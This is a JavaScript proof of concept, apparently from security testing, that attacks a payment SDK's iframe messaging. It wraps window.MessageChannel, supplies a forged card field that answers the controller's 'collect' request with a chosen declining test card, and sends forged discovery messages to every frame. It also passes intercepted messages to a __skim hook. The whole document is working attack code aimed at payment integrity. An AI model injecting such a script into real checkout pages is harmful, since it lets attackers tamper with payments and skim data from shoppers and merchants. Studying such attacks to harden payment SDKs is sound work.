// Attack on integrity: with every MessageChannel the SDK makes in our hands, hand the controller
// a "field" of our own and answer its `collect` with a card of our choosing (a declining test
// card), on the controller's port and through forged discovery messages to every frame.
(function () {
  var Real = (window.__RealMessageChannel = window.MessageChannel);
  var FAKE = { 0: '4000000000000002', 1: '12 / 30', 2: '123' };
  function fakeField(what) {
    var channel = new Real();
    channel.port1.onmessage = function (e) {
      window.__skim(what, e.data);
      var d = e.data || {};
      if (d.t === 'collect') channel.port1.postMessage({ t: 'values', id: d.id, error: null, values: FAKE });
    };
    return channel.port2;
  }
  window.MessageChannel = function MessageChannel() {
    var c = new Real();
    var port1 = c.port1;
    // The SDK keeps port1 and sends port2 to a frame: talk to that frame on port1's behalf too.
    setTimeout(function () {
      port1.postMessage({ t: 'field', type: 'card' }, [fakeField('fake field via page port')]);
      for (var id = 1; id < 5; id++) port1.postMessage({ t: 'values', id: id, error: null, values: FAKE });
    }, 1500);
    return c;
  };
  var timer = setInterval(function () {
    var controller = document.querySelector('iframe.payjp-controller');
    var field = document.querySelector('iframe.payjp-frame');
    if (!controller || !field) return;
    clearInterval(timer);
    setInterval(function () {
      var p = window.__frameParams(field);
      for (var i = 0; i < window.frames.length; i++) {
        window.frames[i].postMessage({ tag: 'payjp-peer', kind: 'field', instance: p.get('instance'), group: p.get('group'), type: 'card' }, '*', [fakeField('fake field via discovery')]);
      }
    }, 500);
  }, 50);
})();
